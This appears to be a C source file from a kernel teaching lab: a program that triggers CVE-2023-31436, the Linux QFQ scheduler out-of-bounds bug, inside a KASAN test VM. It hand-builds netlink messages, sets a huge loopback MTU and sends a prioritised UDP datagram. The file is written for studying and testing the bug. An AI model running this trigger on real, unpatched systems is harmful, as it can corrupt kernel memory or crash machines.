// SPDX-License-Identifier: GPL-2.0-only
/*
 * qfq-lmax: lab 9's real bug, CVE-2023-31436, triggered from user space
 * inside the kasan-tags VM.  Static, against the kernel tree's nolibc like
 * the init; the init runs it as /qfq-lmax (kt_exec=qfq-lmax, which
 * `make run SCENARIO=qfq-lmax` asks for).
 *
 * The steps of the public report (Gwangun Jung, netdev, April 2023; the fix
 * is upstream 3037933448f6, "net: sched: sch_qfq: prevent slab-out-of-bounds
 * in qfq_activate_agg"), with raw system calls and netlink messages built by
 * hand instead of ip(8) and tc(8):
 *
 *   1. lo's MTU to 600000 (SIOCSIFMTU), lo up (SIOCSIFFLAGS)
 *   2. RTM_NEWQDISC: a qfq qdisc as lo's root, handle 1:
 *   3. RTM_NEWTCLASS: class 1:1 with TCA_QFQ_WEIGHT 1 and no TCA_QFQ_LMAX,
 *      so the kernel takes lmax from the MTU: psched_mtu() = 600000 + 14
 *   4. one UDP datagram to 127.0.0.1 with SO_PRIORITY 0x10001, which
 *      qfq_classify() maps to class 1:1 without any filter
 *
 * With lo's tx_queue_len of 1000, qfq_calc_index() puts an lmax of 600014
 * in group 25 of q->groups[0..24] (this program prints the same arithmetic
 * as its "predict" line): the aggregate's group is the 296 bytes right
 * after the Qdisc's private data.  A kernel with the fix refuses step 3
 * ("MTU size out of bounds for qfq", -EINVAL) and the datagram, which no
 * class takes, is dropped; without it, step 4's qfq_enqueue() ->
 * qfq_activate_agg() reads that group (vm/init/expected.toml says what
 * each variant's KASAN reports).
 *
 * The steps are a script, "kt_qfq=ITEM,ITEM,..." on the kernel command line
 * (the default is the public report's: mtu:600000,qdisc,class:1,send:1):
 *
 *   mtu:N     lo's MTU to N, lo up, and the prediction for that MTU
 *   qdisc     the qfq qdisc 1: as lo's root
 *   class:N   create class 1:N, weight 1, no TCA_QFQ_LMAX (or change it:
 *             it takes its lmax from the MTU again)
 *   send:N    one datagram of priority 1:N
 *   student   load /lib/modules/student_qfq.ko (lab 9's exercise 9.2: the
 *             student's sch_qfq.c, whose qdisc is "qfq-student") and use
 *             that qdisc from then on
 *
 * Every step prints one machine-readable line, "qfq-lmax: <event> key=value
 * ...", between the KT-SCENARIO-BEGIN/END markers of a lab scenario; the
 * "access" line comes just before the system call that makes the kernel
 * read the group.  A failure that leaves the scenario meaningless (no
 * networking, no QFQ in this kernel) is a KT-ERROR line.
 */

#include <linux/in.h>
#include <linux/netlink.h>
#include <linux/pkt_sched.h>
#include <linux/rtnetlink.h>
#include <linux/sockios.h>
#include <asm/socket.h>

#define SCN "qfq-lmax"

/* The socket ABI constants libc would provide (include/linux/socket.h). */
#define AF_INET 2
#define AF_NETLINK 16
#define SOCK_DGRAM 2
#define SOCK_RAW 3
#define SOL_NETLINK 270
#define MSG_DONTWAIT 0x40
#define IFF_UP 0x1

#define LO_IFINDEX 1		/* LOOPBACK_IFINDEX: lo is always 1 */
#define SCRIPT "mtu:600000,qdisc,class:1,send:1"	/* lmax 600014: group 25 */
#define PRIO 0x10000		/* + N: class 1:N of qdisc 1: */
#define STUDENT_KO "/lib/modules/student_qfq.ko"
#define STUDENT_KIND "qfq-student"	/* labs/module/qfq_student.h */
#define PORT 5202
#define PAYLOAD "CVE-2023-31436\n"

/* 6.1 net/sched/sch_qfq.c, for the prediction */
#define QFQ_MAX_INDEX 24
#define QFQ_MTU_SHIFT 16
#define QFQ_MAX_AGG_CLASSES 8
#define FRAC_BITS 30
#define ETH_HLEN 14

/* struct ifreq: the name and the one union member used, padded to 40 bytes. */
struct lab_ifreq {
	char name[16];
	union {
		short flags;
		int mtu;
		int qlen;
		char pad[24];
	};
};

/* One request: header, tcmsg, then attributes. */
struct tc_req {
	struct nlmsghdr nh;
	struct tcmsg tc;
	char attrs[64];
};

static char reply[4096];
static char cmdline[4096];
static const char *kind = "qfq";	/* the qdisc the script makes */
static long nl = -1;			/* the rtnetlink socket, once opened */

static long sys_socket(int domain, int type, int proto)
{
	return my_syscall3(__NR_socket, domain, type, proto);
}

static long sys_setsockopt(long fd, int level, int name, int val)
{
	return my_syscall5(__NR_setsockopt, fd, level, name, &val, sizeof(val));
}

static long sys_sendto(long fd, const void *buf, size_t len, int flags,
		       const void *addr, int alen)
{
	return my_syscall6(__NR_sendto, fd, buf, len, flags, addr, alen);
}

static long sys_recv(long fd, void *buf, size_t len, int flags)
{
	return my_syscall6(__NR_recvfrom, fd, buf, len, flags, NULL, NULL);
}

static void fail(const char *what, long ret)
{
	printf("KT-ERROR %s: %s returned %ld\n", SCN, what, ret);
	printf("KT-SCENARIO-END %s\n", SCN);
	exit(1);
}

/* The ioctl on lo, with the value of the union after it. */
static long lo_ioctl(long fd, unsigned long req, struct lab_ifreq *ifr)
{
	memset(ifr->name, 0, sizeof(ifr->name));
	strcpy(ifr->name, "lo");
	return sys_ioctl(fd, req, ifr);
}

/*
 * What qfq_calc_index() and qfq_init_qdisc() compute for a class of weight
 * 1 alone in its aggregate, whose lmax is the device's MTU plus its
 * hard_header_len: the index of its group in q->groups[0..QFQ_MAX_INDEX].
 */
static void calc_index(unsigned int mtu, int txqlen)
{
	unsigned int max_classes = txqlen + 1 < QFQ_MAX_AGG_CLASSES ?
		txqlen + 1 : QFQ_MAX_AGG_CLASSES;
	unsigned int max_cl_shift = 31 - __builtin_clz(max_classes);
	unsigned int min_slot_shift = FRAC_BITS + QFQ_MTU_SHIFT + max_cl_shift -
		QFQ_MAX_INDEX;
	unsigned long long lmax = (unsigned long long)mtu + ETH_HLEN;
	unsigned long long slot_size = lmax << FRAC_BITS;	/* inv_w = 2^30 */
	unsigned long long size_map = slot_size >> min_slot_shift;
	int index = 0;

	if (size_map) {
		index = 64 - __builtin_clzll(size_map);
		if (slot_size == 1ULL << (index + min_slot_shift - 1))
			index--;
	}
	printf("%s: predict lmax=%llu txqlen=%d min_slot_shift=%u index=%d max_index=%d oob=%d\n",
	       SCN, lmax, txqlen, min_slot_shift, index, QFQ_MAX_INDEX,
	       index > QFQ_MAX_INDEX);
}

static void add_attr(struct tc_req *r, unsigned short type, const void *data,
		     unsigned short len)
{
	struct nlattr *a = (struct nlattr *)((char *)r + NLMSG_ALIGN(r->nh.nlmsg_len));

	a->nla_type = type;
	a->nla_len = NLA_HDRLEN + len;
	if (len)
		memcpy((char *)a + NLA_HDRLEN, data, len);
	r->nh.nlmsg_len = NLMSG_ALIGN(r->nh.nlmsg_len) + NLA_ALIGN(a->nla_len);
}

static void init_req(struct tc_req *r, unsigned short type, unsigned int seq,
		     unsigned int handle, unsigned int parent)
{
	memset(r, 0, sizeof(*r));
	r->nh.nlmsg_len = NLMSG_LENGTH(sizeof(r->tc));
	r->nh.nlmsg_type = type;
	r->nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL;
	r->nh.nlmsg_seq = seq;
	r->tc.tcm_family = 0;	/* AF_UNSPEC */
	r->tc.tcm_ifindex = LO_IFINDEX;
	r->tc.tcm_handle = handle;
	r->tc.tcm_parent = parent;
}

/*
 * Send @r and read its ack: the error (0 or -errno), and in @msg the
 * kernel's extack message if it gave one (NETLINK_EXT_ACK).
 */
static long talk(long nl, struct tc_req *r, const char **msg)
{
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	struct nlmsghdr *nh = (struct nlmsghdr *)reply;
	struct nlmsgerr *e = NLMSG_DATA(nh);
	struct nlattr *a;
	long n, off;

	*msg = "";
	n = sys_sendto(nl, r, r->nh.nlmsg_len, 0, &kernel, sizeof(kernel));
	if (n < 0)
		return n;
	n = sys_recv(nl, reply, sizeof(reply), 0);
	if (n < 0)
		return n;
	if (n < NLMSG_LENGTH(sizeof(*e)) || nh->nlmsg_type != NLMSG_ERROR)
		return -EPROTO;
	/* NETLINK_CAP_ACK: the request is not echoed, the TLVs follow */
	off = NLMSG_LENGTH(sizeof(*e));
	while ((nh->nlmsg_flags & NLM_F_ACK_TLVS) && off + NLA_HDRLEN <= n) {
		a = (struct nlattr *)(reply + off);
		if (a->nla_len < NLA_HDRLEN || off + a->nla_len > n)
			break;
		if (a->nla_type == NLMSGERR_ATTR_MSG)
			*msg = (char *)a + NLA_HDRLEN;
		off += NLA_ALIGN(a->nla_len);
	}
	return e->error;
}

static void set_mtu(long fd, int mtu)
{
	struct lab_ifreq ifr;
	long ret;
	int txqlen;

	ifr.mtu = mtu;
	ret = lo_ioctl(fd, SIOCSIFMTU, &ifr);
	if (ret)
		fail("SIOCSIFMTU lo", ret);
	ret = lo_ioctl(fd, SIOCGIFMTU, &ifr);
	printf("%s: mtu dev=lo set=%d ret=%ld mtu=%d\n", SCN, mtu, ret, ifr.mtu);
	ret = lo_ioctl(fd, SIOCGIFFLAGS, &ifr);
	if (ret)
		fail("SIOCGIFFLAGS lo", ret);
	ifr.flags |= IFF_UP;
	ret = lo_ioctl(fd, SIOCSIFFLAGS, &ifr);
	if (ret)
		fail("SIOCSIFFLAGS lo", ret);
	lo_ioctl(fd, SIOCGIFFLAGS, &ifr);
	printf("%s: up dev=lo ret=%ld flags=0x%x\n", SCN, ret, ifr.flags & 0xffff);
	ret = lo_ioctl(fd, SIOCGIFTXQLEN, &ifr);
	txqlen = ifr.qlen;
	if (ret)
		fail("SIOCGIFTXQLEN lo", ret);
	calc_index(mtu, txqlen);
}

/* The rtnetlink socket, opened at the first request that needs it. */
static long rtnl(void)
{
	if (nl >= 0)
		return nl;
	nl = sys_socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (nl < 0)
		fail("socket(AF_NETLINK)", nl);
	sys_setsockopt(nl, SOL_NETLINK, NETLINK_EXT_ACK, 1);
	sys_setsockopt(nl, SOL_NETLINK, NETLINK_CAP_ACK, 1);
	return nl;
}

/* Step 2: the qdisc (it must exist). */
static void make_qdisc(void)
{
	struct tc_req r;
	const char *msg;
	long ret;

	init_req(&r, RTM_NEWQDISC, 1, TC_H_MAKE(1 << 16, 0), TC_H_ROOT);
	add_attr(&r, TCA_KIND, kind, strlen(kind) + 1);
	ret = talk(rtnl(), &r, &msg);
	printf("%s: qdisc dev=lo kind=%s handle=1: parent=root ret=%ld msg=\"%s\"\n",
	       SCN, kind, ret, msg);
	if (ret)
		fail("RTM_NEWQDISC qfq (is CONFIG_NET_SCH_QFQ=y?)", ret);
}

/*
 * Step 3: class 1:@minor (it may be refused).  Without NLM_F_EXCL, a class
 * that exists is changed: qfq_change_class() takes its lmax again.
 */
static long make_class(unsigned int minor)
{
	struct tc_req r;
	struct nlattr *opts;
	const char *msg;
	unsigned int weight = 1;
	long ret;

	init_req(&r, RTM_NEWTCLASS, 2, TC_H_MAKE(1 << 16, minor), TC_H_MAKE(1 << 16, 0));
	r.nh.nlmsg_flags &= ~NLM_F_EXCL;
	opts = (struct nlattr *)((char *)&r + NLMSG_ALIGN(r.nh.nlmsg_len));
	add_attr(&r, TCA_OPTIONS | NLA_F_NESTED, NULL, 0);
	add_attr(&r, TCA_QFQ_WEIGHT, &weight, sizeof(weight));
	opts->nla_len = (char *)&r + r.nh.nlmsg_len - (char *)opts;
	ret = talk(rtnl(), &r, &msg);
	printf("%s: class dev=lo classid=1:%u weight=%u lmax=none ret=%ld msg=\"%s\"\n",
	       SCN, minor, weight, ret, msg);
	return ret;
}

/* Exercise 9.2: the student's QFQ, a module beside the kernel's own. */
static void load_student(void)
{
	int fd = open(STUDENT_KO, O_RDONLY, 0);
	long ret = fd < 0 ? fd : my_syscall3(__NR_finit_module, fd, "", 0);

	if (fd >= 0)
		close(fd);
	printf("%s: module name=student_qfq kind=%s ret=%ld\n", SCN, STUDENT_KIND, ret);
	if (ret)
		fail("finit_module " STUDENT_KO, ret);
	kind = STUDENT_KIND;
}

/* Step 4: one datagram of priority 1:@minor to a socket of our own. */
static void send_one(unsigned int minor)
{
	struct sockaddr_in sa = {
		.sin_family = AF_INET,
		.sin_port = (PORT >> 8) | ((PORT & 0xff) << 8),	/* htons */
		.sin_addr.s_addr = 0x0100007f,			/* 127.0.0.1 */
	};
	long rx, tx, ret;

	rx = sys_socket(AF_INET, SOCK_DGRAM, 0);
	tx = sys_socket(AF_INET, SOCK_DGRAM, 0);
	if (rx < 0 || tx < 0)
		fail("socket(AF_INET, SOCK_DGRAM)", rx < 0 ? rx : tx);
	ret = my_syscall3(__NR_bind, rx, &sa, sizeof(sa));
	if (ret)
		fail("bind 127.0.0.1", ret);
	ret = sys_setsockopt(tx, SOL_SOCKET, SO_PRIORITY, PRIO + minor);
	if (ret)
		fail("SO_PRIORITY", ret);
	printf("%s: access send to=127.0.0.1:%d prio=0x%x bytes=%d\n", SCN, PORT,
	       PRIO + minor, (int)sizeof(PAYLOAD) - 1);
	ret = sys_sendto(tx, PAYLOAD, sizeof(PAYLOAD) - 1, 0, &sa, sizeof(sa));
	printf("%s: sent ret=%ld\n", SCN, ret);
	/* lo hands the datagram over before sendto() returns (softirq) */
	ret = sys_recv(rx, reply, sizeof(reply), MSG_DONTWAIT);
	printf("%s: recv ret=%ld delivered=%d\n", SCN, ret, ret > 0);
	close(tx);
	close(rx);
}

/* The length of the item at @s: up to a comma, a space or the end. */
static size_t item_len(const char *s)
{
	size_t n = 0;

	while (s[n] && s[n] != ',' && s[n] != ' ' && s[n] != '\n')
		n++;
	return n;
}

/* The script: kt_qfq= of the kernel command line, else SCRIPT. */
static const char *script(void)
{
	int fd = open("/proc/cmdline", O_RDONLY, 0);
	long n = fd < 0 ? -1 : read(fd, cmdline, sizeof(cmdline) - 1);
	char *p;

	if (fd >= 0)
		close(fd);
	cmdline[n > 0 ? n : 0] = '\0';
	for (p = cmdline; *p; p++) {
		if ((p == cmdline || p[-1] == ' ') && !strncmp(p, "kt_qfq=", 7)) {
			char *start = p + 7, *end = start;

			while (*end && *end != ' ' && *end != '\n')
				end++;
			*end = '\0';
			return start;
		}
	}
	return SCRIPT;
}

/* The number after "name:" in @item, or -1 when @item is not one. */
static long item_arg(const char *item, const char *name)
{
	size_t len = strlen(name);

	if (strncmp(item, name, len) || item[len] != ':')
		return -1;
	return atol(item + len + 1);
}

/* One item of the script; a class step's answer goes to *@class. */
static void run_item(long fd, const char *item, long *class)
{
	if (item_arg(item, "mtu") > 0)
		set_mtu(fd, item_arg(item, "mtu"));
	else if (!strcmp(item, "qdisc"))
		make_qdisc();
	else if (item_arg(item, "class") > 0)
		*class = make_class(item_arg(item, "class"));
	else if (item_arg(item, "send") > 0)
		send_one(item_arg(item, "send"));
	else if (!strcmp(item, "student"))
		load_student();
	else
		fail("kt_qfq: unknown step (mtu:N, qdisc, class:N, send:N, student)", -22);
}

int main(void)
{
	const char *next = script();
	long fd, class = 0;
	char item[32];
	size_t len;

	printf("KT-SCENARIO-BEGIN %s\n", SCN);
	printf("%s: begin cve=CVE-2023-31436 fix=3037933448f6\n", SCN);
	fd = sys_socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0)
		fail("socket(AF_INET) (a kernel without CONFIG_NET?)", fd);
	while (*next) {
		len = item_len(next);
		memcpy(item, next, len < sizeof(item) ? len : sizeof(item) - 1);
		item[len < sizeof(item) ? len : sizeof(item) - 1] = '\0';
		next += len;
		next += *next == ',';
		run_item(fd, item, &class);
	}
	close(fd);
	if (nl >= 0)
		close(nl);
	printf("%s: end class=%ld\n", SCN, class);
	printf("KT-SCENARIO-END %s\n", SCN);
	return 0;
}
